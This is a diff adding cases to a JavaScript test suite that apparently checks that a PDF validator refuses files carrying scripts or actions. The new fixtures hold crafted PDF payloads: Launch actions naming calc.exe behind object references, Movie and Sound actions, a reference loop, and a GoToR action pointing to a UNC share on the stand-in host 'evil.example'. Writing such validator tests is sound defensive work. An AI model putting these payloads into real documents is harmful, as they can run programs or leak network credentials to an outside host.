@@ -57,6 +57,27 @@ describe('CASES 16: files that are refused with a message', () => {
     ['JavaScript in an object stream', pdfWithHiddenAction(script), /scripts or actions/],
     ['a name written in hex', pdf({ catalog: '/OpenAction << /S /#4aavaScript /J#53 (1) >>' }), /scripts or actions/],
     ['a program to launch', pdf({ catalog: '/OpenAction << /S /Launch /F (x) >>' }), /scripts or actions/],
+    [
+      'a program to launch, its name behind a reference',
+      pdf({ catalog: '/OpenAction << /S 9 0 R /F (calc.exe) >>', objects: ['/Launch'] }),
+      /scripts or actions/,
+    ],
+    [
+      'a film, its kind behind two references',
+      pdf({ catalog: '/Extra << /Type /Annot /Subtype 9 0 R >>', objects: ['10 0 R', '/Movie'] }),
+      /scripts or actions/,
+    ],
+    [
+      'names in a circle',
+      pdf({ catalog: '/OpenAction << /S 9 0 R >>', objects: ['10 0 R', '9 0 R'] }),
+      /^invalid_fields/,
+    ],
+    [
+      'a way to a file on another host',
+      pdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>' }),
+      /scripts or actions/,
+    ],
+    ['a sound', pdf({ catalog: '/OpenAction << /S /Sound /Sound 9 0 R >>', objects: ['null'] }), /scripts or actions/],
     ['a form that sends itself', pdf({ catalog: '/AA << /WC << /S /SubmitForm >> >>' }), /scripts or actions/],
     ['attached files', pdf({ catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' }), /attached files/],
     [
